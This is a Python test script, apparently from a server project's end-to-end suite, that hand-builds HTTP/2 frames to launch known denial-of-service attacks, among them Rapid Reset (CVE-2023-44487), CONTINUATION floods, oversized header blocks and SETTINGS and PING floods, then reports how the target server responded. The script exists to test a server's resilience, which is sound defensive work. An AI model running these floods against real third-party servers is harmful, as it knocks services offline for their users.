#!/usr/bin/python3
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
"""
h2_hostile: known HTTP/2 attacks with raw frames (no HTTP/2 library), for
the e2e tests. Prints what the server did: "goaway CODE", "closed", or
"alive" (still answering a PING after the attack), and exits 0.

  h2_hostile.py HOST:PORT rapid-reset N     N x (HEADERS + RST_STREAM)  CVE-2023-44487
  h2_hostile.py HOST:PORT continuation N    HEADERS without END_HEADERS + N CONTINUATIONs
  h2_hostile.py HOST:PORT big-headers N     one header block of N bytes (HPACK literal)
  h2_hostile.py HOST:PORT settings-flood N  N SETTINGS frames, ACKs never read
  h2_hostile.py HOST:PORT ping-flood N      N PINGs, ACKs never read
  h2_hostile.py HOST:PORT goaway-watch MS   one gRPC Sleep(MS/1000) on stream 1; prints
        "ready", then "goaway LAST-STREAM-ID CODE" per GOAWAY, "end 1" when the
        response ended, "closed" at EOF (a graceful server's drain, not an attack)
"""
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WU, CONT = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(t, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + payload


def hpack_literal(name, value):
    # literal header field without indexing, new name (RFC 7541 6.2.2), short lengths
    def s(b):
        if len(b) < 127:
            return bytes([len(b)]) + b
        n, out = len(b) - 127, bytearray([127])
        while n >= 128:
            out.append((n & 0x7f) | 0x80)
            n >>= 7
        out.append(n)
        return bytes(out) + b
    return b"\x00" + s(name) + s(value)


def request_block(host):
    # :method GET, :scheme http, :path / (static table), :authority literal
    return b"\x82\x86\x84" + b"\x01" + bytes([len(host)]) + host


def frames(sk, until):
    """Yield (type, flags, stream id, payload) until the deadline; (None, ...) at EOF."""
    buf = b""
    sk.settimeout(0.2)
    while time.time() < until:
        try:
            d = sk.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            d = b""
        if not d:
            yield None, 0, 0, b""
            return
        buf += d
        while len(buf) >= 9:
            ln = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + ln:
                break
            yield buf[3], buf[4], struct.unpack(">I", buf[5:9])[0] & 0x7fffffff, buf[9:9 + ln]
            buf = buf[9 + ln:]


def read_frames(sk, until):
    """Read frames until a GOAWAY, EOF or the deadline; returns the GOAWAY code or None."""
    for t, _, _, p in frames(sk, until):
        if t is None:
            return "closed"
        if t == GOAWAY and len(p) >= 8:
            return "goaway %d" % struct.unpack(">I", p[4:8])[0]
    return None


def goaway_watch(sk, authority, ms):
    secs = b"%.3f" % (ms / 1000.0)
    blk = (b"\x83\x86" + hpack_literal(b":path", b"/sm.Echo/Sleep") +
           hpack_literal(b":authority", authority) +
           hpack_literal(b"content-type", b"application/grpc") + hpack_literal(b"te", b"trailers"))
    sk.sendall(frame(HEADERS, END_HEADERS, 1, blk) +
               frame(DATA, END_STREAM, 1, b"\x00" + struct.pack(">I", len(secs)) + secs))
    print("ready", flush=True)
    for t, fl, sid, p in frames(sk, time.time() + 30):
        if t is None:
            print("closed", flush=True)
            return 0
        if t == SETTINGS and not fl & ACK:
            sk.sendall(frame(SETTINGS, ACK, 0))
        elif t == GOAWAY and len(p) >= 8:
            last, code = struct.unpack(">II", p[:8])
            print("goaway %d %d" % (last & 0x7fffffff, code), flush=True)
        elif t in (HEADERS, DATA) and sid == 1 and fl & END_STREAM:
            print("end 1", flush=True)
        elif t == RST and sid == 1:
            print("reset 1", flush=True)
    print("timeout")
    return 0


def main():
    if len(sys.argv) != 4:
        print(__doc__, file=sys.stderr)
        return 2
    host, port = sys.argv[1].rsplit(":", 1)
    mode, n = sys.argv[2], int(sys.argv[3])
    if not 0 < n <= 200000:
        return 2
    sk = socket.create_connection((host, int(port)), timeout=5)
    sk.sendall(PREFACE + frame(SETTINGS, 0, 0))
    out = bytearray()
    blk = request_block(sys.argv[1].encode())
    if mode == "goaway-watch":
        return goaway_watch(sk, sys.argv[1].encode(), n)
    try:
        if mode == "rapid-reset":
            sid = 1
            for _ in range(n):
                out += frame(HEADERS, END_HEADERS | END_STREAM, sid, blk)
                out += frame(RST, 0, sid, struct.pack(">I", 8))	# CANCEL
                sid += 2
                if len(out) > 65536:
                    sk.sendall(out)
                    out.clear()
        elif mode == "continuation":
            out += frame(HEADERS, END_STREAM, 1, blk)
            for _ in range(n):
                out += frame(CONT, 0, 1, hpack_literal(b"x-flood", b"a" * 16))
                if len(out) > 65536:
                    sk.sendall(out)
                    out.clear()
        elif mode == "big-headers":
            out += frame(HEADERS, END_STREAM, 1, blk + hpack_literal(b"x-big", b"b" * min(n, 16000)))
            left = n - 16000
            while left > 0:
                k = min(left, 16000)
                out += frame(CONT, 0, 1, hpack_literal(b"x-big", b"b" * k))
                left -= k
            out += frame(CONT, END_HEADERS, 1, b"")
        elif mode == "settings-flood":
            for _ in range(n):
                out += frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
        elif mode == "ping-flood":
            for _ in range(n):
                out += frame(PING, 0, 0, b"12345678")
        else:
            return 2
        sk.sendall(out)
    except OSError:
        print("closed")
        return 0
    r = read_frames(sk, time.time() + 3)
    if r:
        print(r)
        return 0
    try:
        sk.sendall(frame(PING, 0, 0, b"alive!!!"))
        r = read_frames(sk, time.time() + 2)
    except OSError:
        r = "closed"
    print(r or "alive")
    return 0


if __name__ == "__main__":
    sys.exit(main())
